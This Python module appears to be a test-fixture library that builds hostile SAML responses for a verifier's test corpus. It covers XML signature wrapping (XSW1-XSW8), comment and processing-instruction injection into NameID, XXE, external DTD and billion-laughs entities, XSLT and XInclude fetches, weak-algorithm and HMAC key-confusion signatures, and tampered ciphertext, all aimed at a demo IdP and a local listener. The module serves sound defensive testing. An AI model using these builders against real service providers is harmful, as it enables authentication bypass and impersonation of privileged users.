"""Hostile SAML responses, one builder per attack, for the corpus in tests/cases/saml/.

Every builder takes a Target (who the response is for, the clock, and a URL on a local
listener that a payload may try to reach) plus optional keywords, and returns the text a
client would send as SAMLAssertion (base64, or deliberately not). Builders start from a
response the demo IdP really signed, then do what an attacker holding it can do:

    from idp_fixtures.saml.attacks import BUILDERS, Target
    text = BUILDERS["xsw3"](Target(recipient=URL, audience=URL, now=NOW))

XSW1-XSW8 follow the classic forms of Somorovsky et al., "On Breaking SAML" (2012), as
SAML Raider names them; "evil" content claims the subject `admin@example.test`.
"""
from __future__ import annotations

import base64
import copy
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import xmlsec
from lxml import etree

from idp_fixtures.saml import build, sign
from idp_fixtures.saml.build import DS, SAML, SAMLP, q
from idp_fixtures.saml.idp import DemoIdP, encode

ROLE = "arn:aws:iam::000000000000:role/Demo"
PROVIDER = "arn:aws:iam::000000000000:saml-provider/DemoIdP"
EVIL = "admin@example.test"
T = xmlsec.Transform


@dataclass(frozen=True)
class Target:
    recipient: str
    audience: str
    now: float
    callback: str = "http://127.0.0.1:9/"  # where a payload tries to reach (a test's local listener)
    idp: DemoIdP = field(default_factory=DemoIdP)

    def fields(self, **overrides: Any) -> dict[str, Any]:
        base: dict[str, Any] = {"recipient": self.recipient, "audience": self.audience, "now": self.now,
                                "roles": [(ROLE, PROVIDER)], "session_name": "alice"}
        base.update(overrides)
        return base

    def tree(self, sign_what: str = "assertion", **overrides: Any) -> etree._Element:
        """A response tree signed by the demo IdP (sign_what: assertion/response/both/none)."""
        options = {k: overrides.pop(k) for k in ("signature_method", "digest_method", "c14n", "transforms")
                   if k in overrides}
        tree = self.idp.response_tree(**self.fields(**overrides))
        if sign_what != "none":
            self.idp.sign_tree(tree, sign_what, **options)
        # Re-parsed: lxml's tag lookups (find/iter by tag) miss nodes that xmlsec's templates
        # created with names outside the document's dictionary.
        return etree.fromstring(etree.tostring(tree))


BUILDERS: dict[str, Callable[..., str]] = {}


def builder(fn: Callable[..., str]) -> Callable[..., str]:
    BUILDERS[fn.__name__.replace("_", "-")] = fn
    return fn


def _assertion(tree: etree._Element) -> etree._Element:
    return build.assertion_of(tree)


def _signature(el: etree._Element) -> etree._Element:
    found = el.find(q(DS, "Signature"))
    assert found is not None
    return found


def _make_evil(el: etree._Element, new_id: bool = True) -> etree._Element:
    """Claim the evil subject in an assertion (or a response's assertion)."""
    assertion = el if el.tag == q(SAML, "Assertion") else _assertion(el)
    for name_id in assertion.iter(q(SAML, "NameID")):
        name_id.text = EVIL
    for value in assertion.iter(q(SAML, "AttributeValue")):
        if value.text == "alice":
            value.text = "admin"
    if new_id:
        el.set("ID", build.new_id())
    return el


def _strip_signature(el: etree._Element) -> etree._Element:
    sig = el.find(q(DS, "Signature"))
    if sig is not None:
        el.remove(sig)
    return el


def _after_issuer(parent: etree._Element, child: etree._Element) -> None:
    issuer = parent.find(q(SAML, "Issuer"))
    if issuer is not None:
        issuer.addnext(child)
    else:
        parent.insert(0, child)


# ---------------------------------------------------------------- valid responses
@builder
def valid(t: Target, sign_what: str = "assertion", **kw: Any) -> str:
    """A response the IdP really issued (positive cases); keywords go to DemoIdP.response."""
    return t.idp.response(sign=sign_what, **t.fields(**kw))


@builder
def rotated(t: Target, **kw: Any) -> str:
    """Signed with the IdP's second (rotated) key."""
    return DemoIdP(key_name="idp-rotated").response(**t.fields(**kw))


@builder
def ecdsa(t: Target, **kw: Any) -> str:
    """Signed with an ECDSA P-256 key (ecdsa-sha256)."""
    return DemoIdP(key_name="idp-ec").response(signature_method=T.ECDSA_SHA256, **t.fields(**kw))


@builder
def pretty_printed(t: Target) -> str:
    """Indented by the IdP before signing (text nodes with whitespace around values)."""
    tree = t.idp.response_tree(**t.fields())
    etree.indent(tree)
    t.idp.sign_tree(tree, "assertion")
    return encode(tree)


# ---------------------------------------------------------------- signature wrapping
@builder
def xsw1(t: Target) -> str:
    """XSW1: the signed Response is copied into the Signature of an evil Response with a
    new ID; the Signature still references the original's ID."""
    original = t.tree("response")
    evil = _make_evil(copy.deepcopy(original))
    sig = _signature(evil)
    sig.append(_strip_signature(copy.deepcopy(original)))
    return encode(evil)


@builder
def xsw2(t: Target) -> str:
    """XSW2: as XSW1, with the original Response placed before the Signature (detached)."""
    original = t.tree("response")
    evil = _make_evil(copy.deepcopy(original))
    _signature(evil).addprevious(_strip_signature(copy.deepcopy(original)))
    return encode(evil)


@builder
def xsw3(t: Target) -> str:
    """XSW3: an evil Assertion (new ID, unsigned) inserted before the signed one."""
    tree = t.tree("assertion")
    original = _assertion(tree)
    evil = _strip_signature(_make_evil(copy.deepcopy(original)))
    original.addprevious(evil)
    return encode(tree)


@builder
def xsw4(t: Target) -> str:
    """XSW4: an evil Assertion wraps the signed original as its child."""
    tree = t.tree("assertion")
    original = _assertion(tree)
    evil = _strip_signature(_make_evil(copy.deepcopy(original)))
    original.addprevious(evil)
    evil.append(original)
    return encode(tree)


@builder
def xsw5(t: Target) -> str:
    """XSW5: the signed assertion is made evil (new ID, keeps its Signature); an unsigned
    copy of the original is appended to the Response for the reference to find."""
    tree = t.tree("assertion")
    original = _assertion(tree)
    copy_ = _strip_signature(copy.deepcopy(original))
    _make_evil(original)
    tree.append(copy_)
    return encode(tree)


@builder
def xsw6(t: Target) -> str:
    """XSW6: as XSW5, with the original copy inside the evil assertion's Signature."""
    tree = t.tree("assertion")
    original = _assertion(tree)
    copy_ = _strip_signature(copy.deepcopy(original))
    _make_evil(original)
    _signature(original).append(copy_)
    return encode(tree)


@builder
def xsw7(t: Target) -> str:
    """XSW7: the signed original goes into a samlp:Extensions element; the assertion left
    in place is evil and unsigned but keeps the original ID."""
    tree = t.tree("assertion")
    original = _assertion(tree)
    ext = etree.Element(q(SAMLP, "Extensions"))
    ext.append(copy.deepcopy(original))
    _after_issuer(tree, ext)
    _strip_signature(_make_evil(original, new_id=False))
    return encode(tree)


@builder
def xsw8(t: Target) -> str:
    """XSW8: the evil assertion keeps the Signature, and a ds:Object inside it holds an
    unsigned copy of the original with the original ID."""
    tree = t.tree("assertion")
    original = _assertion(tree)
    copy_ = _strip_signature(copy.deepcopy(original))
    _make_evil(original, new_id=False)
    obj = etree.SubElement(_signature(original), q(DS, "Object"))
    obj.append(copy_)
    original.set("ID", build.new_id())
    return encode(tree)


@builder
def status_detail(t: Target) -> str:
    """The signed original hidden in Status/StatusDetail; an evil unsigned assertion with
    the same ID stands in its place."""
    tree = t.tree("assertion")
    original = _assertion(tree)
    status = tree.find(q(SAMLP, "Status"))
    assert status is not None
    etree.SubElement(status, q(SAMLP, "StatusDetail")).append(copy.deepcopy(original))
    _strip_signature(_make_evil(original, new_id=False))
    return encode(tree)


@builder
def signature_in_extensions(t: Target) -> str:
    """The Response's valid Signature moved into samlp:Extensions (for verifiers that
    look for any signature anywhere), the assertion made evil."""
    tree = t.tree("response")
    sig = _signature(tree)
    ext = etree.Element(q(SAMLP, "Extensions"))
    sig.addprevious(ext)
    ext.append(sig)
    _make_evil(_assertion(tree), new_id=False)
    return encode(tree)


@builder
def response_signature_in_assertion(t: Target) -> str:
    """The Response's Signature moved into the Assertion: still a valid enveloped signature
    of the Response, but it does not cover the assertion as an assertion signature."""
    tree = t.tree("response")
    sig = _signature(tree)
    _after_issuer(_assertion(tree), sig)
    return encode(tree)


@builder
def duplicate_id(t: Target) -> str:
    """An extra element carrying the signed assertion's ID (ID-lookup confusion)."""
    tree = t.tree("assertion")
    ext = etree.Element(q(SAMLP, "Extensions"))
    etree.SubElement(ext, "{urn:evil}Thing", ID=_assertion(tree).get("ID", ""))
    _after_issuer(tree, ext)
    return encode(tree)


@builder
def xml_id_duplicate(t: Target) -> str:
    """An xml:id attribute elsewhere equal to the signed assertion's ID."""
    tree = t.tree("assertion")
    status = tree.find(q(SAMLP, "Status"))
    assert status is not None
    status.set("{http://www.w3.org/XML/1998/namespace}id", _assertion(tree).get("ID", ""))
    return encode(tree)


@builder
def two_signatures(t: Target) -> str:
    """A second (copied) Signature on the assertion."""
    tree = t.tree("assertion")
    sig = _signature(_assertion(tree))
    sig.addnext(copy.deepcopy(sig))
    return encode(tree)


@builder
def empty_reference_uri(t: Target) -> str:
    """A Reference with URI="" (the whole document) instead of the assertion's ID."""
    tree = t.idp.response_tree(**t.fields())
    sign.sign_element(_assertion(tree), reference_uri="")
    return encode(tree)


@builder
def external_reference(t: Target) -> str:
    """A Reference pointing at a URL (a verifier that dereferences it makes a request)."""
    tree = t.tree("assertion")
    ref = _signature(_assertion(tree)).find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}")
    assert ref is not None
    ref.set("URI", t.callback + "reference")
    return encode(tree)


@builder
def reference_type_manifest(t: Target) -> str:
    """A Reference typed as a Manifest (indirection a verifier might follow)."""
    tree = t.tree("assertion")
    ref = _signature(_assertion(tree)).find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}")
    assert ref is not None
    ref.set("Type", "http://www.w3.org/2000/09/xmldsig#Manifest")
    return encode(tree)


@builder
def hostile_key_info(t: Target) -> str:
    """A genuinely signed assertion whose KeyInfo (not covered by the signature) is replaced
    by a RetrievalMethod and a KeyName pointing at the local listener: KeyInfo is never read,
    so this is accepted and nothing is fetched."""
    tree = t.tree("assertion")
    sig = _signature(_assertion(tree))
    key_info = sig.find(q(DS, "KeyInfo"))
    assert key_info is not None
    for child in list(key_info):
        key_info.remove(child)
    etree.SubElement(key_info, q(DS, "KeyName")).text = t.callback + "keyname"
    etree.SubElement(key_info, q(DS, "RetrievalMethod"), URI=t.callback + "key",
                     Type="http://www.w3.org/2000/09/xmldsig#X509Data")
    return encode(tree)


@builder
def assertion_without_id(t: Target) -> str:
    """The Response is signed; the assertion inside has no ID (the replay mark's key)."""
    tree = t.idp.response_tree(**t.fields())
    del _assertion(tree).attrib["ID"]
    sign.sign_element(tree)
    return encode(tree)


# ---------------------------------------------------------------- comments and PIs
def _inject(t: Target, what: str, node: str) -> str:
    """Sign a value with a suffix, then split it with a comment/PI so that a reader that
    stops at the first text node sees only the prefix; c14n ignores comments, so the
    signature stays valid (for PIs it does not: the check must come first anyway)."""
    kw: dict[str, Any] = {"name_id": "admin@example.test.evil.test"} if what == "nameid" else \
        {"session_name": "admin.evil"}
    tree = t.tree("assertion", **kw)
    target = next(v for v in tree.iter(q(SAML, "NameID" if what == "nameid" else "AttributeValue"))
                  if v.text in ("admin@example.test.evil.test", "admin.evil"))
    prefix, suffix = ("admin@example.test", ".evil.test") if what == "nameid" else ("admin", ".evil")
    target.text = prefix
    inserted = etree.Comment("") if node == "comment" else etree.ProcessingInstruction("x")
    inserted.tail = suffix
    target.append(inserted)
    return encode(tree)


def _register_injections() -> None:
    """comment-in-nameid, comment-in-attribute, pi-in-nameid, pi-in-attribute."""
    for node in ("comment", "pi"):
        for what in ("nameid", "attribute"):
            BUILDERS[f"{node}-in-{what}"] = lambda t, what=what, node=node: _inject(t, what, node)


_register_injections()


# ---------------------------------------------------------------- unsigned, stripped, tampered
@builder
def unsigned(t: Target) -> str:
    return encode(t.tree("none"))


@builder
def stripped(t: Target) -> str:
    """A signed response with its only Signature removed."""
    tree = t.tree("assertion")
    _strip_signature(_assertion(tree))
    return encode(tree)


@builder
def tampered(t: Target, sign_what: str = "assertion") -> str:
    """The signed subject changed after signing."""
    tree = t.tree(sign_what)
    _make_evil(_assertion(tree), new_id=False)
    return encode(tree)


@builder
def tampered_signature_value(t: Target) -> str:
    tree = t.tree("assertion")
    value = _signature(_assertion(tree)).find(q(DS, "SignatureValue"))
    assert value is not None and value.text
    raw = bytearray(base64.b64decode(value.text))
    raw[10] ^= 1
    value.text = base64.b64encode(bytes(raw)).decode()
    return encode(tree)


@builder
def attacker_key(t: Target, sign_what: str = "assertion") -> str:
    """Signed with the attacker's key; KeyInfo carries the attacker's certificate (same
    subject name as the IdP's)."""
    return DemoIdP(key_name="attacker").response(sign=sign_what, **t.fields(name_id=EVIL))


@builder
def attacker_response_over_valid_assertion(t: Target) -> str:
    """A genuinely signed assertion inside a Response the attacker signed: every signature
    present must verify."""
    tree = t.tree("assertion")
    tree.set("Destination", t.recipient)
    sign.sign_element(tree, "attacker")
    return encode(tree)


# ---------------------------------------------------------------- weak algorithms, transforms
# Validly signed by the IdP's key with these algorithm choices (signature keywords of sign_element).
SIGNED_WITH: dict[str, dict[str, Any]] = {
    "digest-sha1": {"digest_method": T.SHA1},
    "rsa-sha1": {"signature_method": T.RSA_SHA1},
    "rsa-md5": {"signature_method": T.RSA_MD5, "digest_method": T.MD5},
    "transform-with-comments": {"transforms": (T.ENVELOPED, T.EXCL_C14N_COMMENTS)},
    "c14n-with-comments": {"c14n": T.EXCL_C14N_COMMENTS},
    "c14n11": {"c14n": T.C14N11},
}
for _name, _options in SIGNED_WITH.items():
    BUILDERS[_name] = lambda t, options=_options: encode(t.tree("assertion", **options))


@builder
def hmac(t: Target) -> str:
    """HMAC-SHA256 keyed with the IdP certificate's public bytes (key confusion)."""
    from idp_fixtures.saml import material

    tree = t.idp.response_tree(**t.fields())
    key = xmlsec.Key.from_binary_data(xmlsec.KeyData.HMAC, material.cert_pem("idp").encode())
    sign.sign_element(_assertion(tree), key=key, signature_method=T.HMAC_SHA256)
    return encode(tree)


@builder
def dsa(t: Target) -> str:
    """DSA-SHA1 with a DSA key (trusted in the case's provider, so only the algorithm refuses)."""
    return DemoIdP(key_name="dsa").response(signature_method=T.DSA_SHA1, digest_method=T.SHA256, **t.fields())


def _add_transform(t: Target, algorithm: str, child: etree._Element | None) -> str:
    tree = t.tree("assertion")
    transforms = _signature(_assertion(tree)).find(f"{q(DS, 'SignedInfo')}/{q(DS, 'Reference')}/{q(DS, 'Transforms')}")
    assert transforms is not None
    transform = etree.SubElement(transforms, q(DS, "Transform"), Algorithm=algorithm)
    if child is not None:
        transform.append(child)
    return encode(tree)


@builder
def xslt_transform(t: Target) -> str:
    """An XSLT transform whose stylesheet reads a URL (document()): must be refused
    before anything evaluates it."""
    xsl = "http://www.w3.org/1999/XSL/Transform"
    sheet = etree.Element(q(xsl, "stylesheet"), version="1.0", nsmap={"xsl": xsl})
    template = etree.SubElement(sheet, q(xsl, "template"), match="/")
    etree.SubElement(template, q(xsl, "copy-of"), select=f"document('{t.callback}xslt')")
    return _add_transform(t, "http://www.w3.org/TR/1999/REC-xslt-19991116", sheet)


@builder
def xpath_transform(t: Target) -> str:
    xpath = etree.Element(q(DS, "XPath"))
    xpath.text = "not(ancestor-or-self::*[local-name()='NameID'])"
    return _add_transform(t, "http://www.w3.org/TR/1999/REC-xpath-19991116", xpath)


@builder
def base64_transform(t: Target) -> str:
    return _add_transform(t, "http://www.w3.org/2000/09/xmldsig#base64", None)


# ---------------------------------------------------------------- DTD, entities, XInclude
def _with_prolog(t: Target, prolog: str, replace: tuple[str, str] | None = None) -> str:
    xml = etree.tostring(t.tree("assertion"), encoding="unicode")
    if replace:
        xml = xml.replace(*replace, 1)
    return base64.b64encode(f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}\n{xml}'.encode()).decode()


@builder
def dtd_entity(t: Target) -> str:
    return _with_prolog(t, '<!DOCTYPE samlp:Response [<!ENTITY who "admin@example.test">]>',
                        (">alice@example.test<", ">&who;<"))


@builder
def xxe(t: Target) -> str:
    return _with_prolog(t, f'<!DOCTYPE samlp:Response [<!ENTITY who SYSTEM "{t.callback}xxe">]>',
                        (">alice@example.test<", ">&who;<"))


@builder
def xxe_parameter_entity(t: Target) -> str:
    return _with_prolog(t, f'<!DOCTYPE samlp:Response [<!ENTITY % ext SYSTEM "{t.callback}dtd"> %ext;]>')


@builder
def external_dtd(t: Target) -> str:
    return _with_prolog(t, f'<!DOCTYPE samlp:Response SYSTEM "{t.callback}external.dtd">')


@builder
def billion_laughs(t: Target) -> str:
    lines = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    return _with_prolog(t, "<!DOCTYPE samlp:Response [" + "".join(lines) + "]>", (">alice@example.test<", ">&lol9;<"))


@builder
def xinclude(t: Target) -> str:
    """An XInclude in the signed NameID pointing at a URL (never expanded here)."""
    tree = t.tree("assertion")
    name_id = next(tree.iter(q(SAML, "NameID")))
    xi = "http://www.w3.org/2001/XInclude"
    name_id.text = ""
    etree.SubElement(name_id, q(xi, "include"), href=t.callback + "xinclude", parse="text", nsmap={"xi": xi})
    return encode(tree)


@builder
def utf16(t: Target) -> str:
    """The whole document in UTF-16 (only UTF-8 is accepted)."""
    return base64.b64encode(etree.tostring(t.tree("assertion"), encoding="UTF-16", xml_declaration=True)).decode()


# ---------------------------------------------------------------- assertions, issuer, audience, recipient
@builder
def two_signed_assertions(t: Target) -> str:
    """Two assertions, both genuinely signed (one for alice, one for admin)."""
    tree = t.tree("assertion")
    other = _assertion(t.tree("assertion", name_id=EVIL))
    tree.append(other)
    return encode(tree)


@builder
def plain_and_encrypted(t: Target) -> str:
    """A signed plain assertion beside an encrypted one."""
    tree = t.tree("assertion")
    enc = t.tree("assertion", name_id=EVIL)
    sign.encrypt_assertion(enc)
    encrypted = enc.find(q(SAML, "EncryptedAssertion"))
    assert encrypted is not None
    tree.append(encrypted)
    return encode(tree)


@builder
def no_assertion(t: Target) -> str:
    tree = t.tree("response")
    tree.remove(_assertion(tree))
    sign.sign_element(_strip_signature(tree))
    return encode(tree)


@builder
def bare_assertion(t: Target) -> str:
    """A signed Assertion alone, without the Response around it."""
    return encode(_assertion(t.tree("assertion")))


@builder
def variant(t: Target, sign_what: str = "assertion", **kw: Any) -> str:
    """A response the IdP signed with some field wrong: keywords of DemoIdP.response
    (issuer, audience, recipient, destination, times, status, name_id=None, ...)."""
    return t.idp.response(sign=sign_what, **t.fields(**kw))


# ---------------------------------------------------------------- encryption forgeries
@builder
def encrypted(t: Target, cert: str = "sp", sign_what: str = "assertion", key_name: str = "idp", **kw: Any) -> str:
    """An EncryptedAssertion for `cert`'s key (keywords: content, key_transport, key_placement,
    and DemoIdP.response fields); signed by `key_name`."""
    return DemoIdP(key_name=key_name).response(sign=sign_what, encrypt_for=cert, **t.fields(**kw))


@builder
def encrypted_tampered(t: Target, content: str = "aes256-gcm", offset: int = 0) -> str:
    """A byte of the content ciphertext flipped (offset in the IV/first block for CBC)."""
    tree = t.tree("assertion")
    sign.encrypt_assertion(tree, content=content)
    value = tree.find(f".//{q(build.XENC, 'EncryptedData')}/{q(build.XENC, 'CipherData')}/{q(build.XENC, 'CipherValue')}")
    assert value is not None and value.text
    raw = bytearray(base64.b64decode(value.text))
    raw[offset] ^= 0x20
    value.text = base64.b64encode(bytes(raw)).decode()
    return encode(tree)


# ---------------------------------------------------------------- garbage and size
@builder
def garbage(t: Target, text: str = "") -> str:
    return text


@builder
def base64_of(t: Target, text: str = "") -> str:
    return base64.b64encode(text.encode()).decode()


@builder
def oversized(t: Target, size: int = 100_001) -> str:
    return "A" * size


@builder
def deeply_nested(t: Target, depth: int = 200) -> str:
    """A signed response whose attribute value holds `depth` nested elements."""
    tree = t.tree("none")
    value = next(tree.iter(q(SAML, "AttributeValue")))
    for _ in range(depth):
        value = etree.SubElement(value, "n")
    t.idp.sign_tree(tree, "assertion")
    return encode(tree)


@builder
def many_elements(t: Target, count: int = 5_000) -> str:
    """A signed response with `count` tiny elements in an attribute value."""
    tree = t.tree("none")
    value = next(tree.iter(q(SAML, "AttributeValue")))
    for _ in range(count):
        etree.SubElement(value, "n")
    t.idp.sign_tree(tree, "assertion")
    return encode(tree)


@builder
def deep_raw(t: Target, depth: int = 10_000) -> str:
    """Unsigned, just deep: `depth` nested elements (libxml2 stops at its own limit)."""
    return base64.b64encode(b"<a>" * depth + b"</a>" * depth).decode()
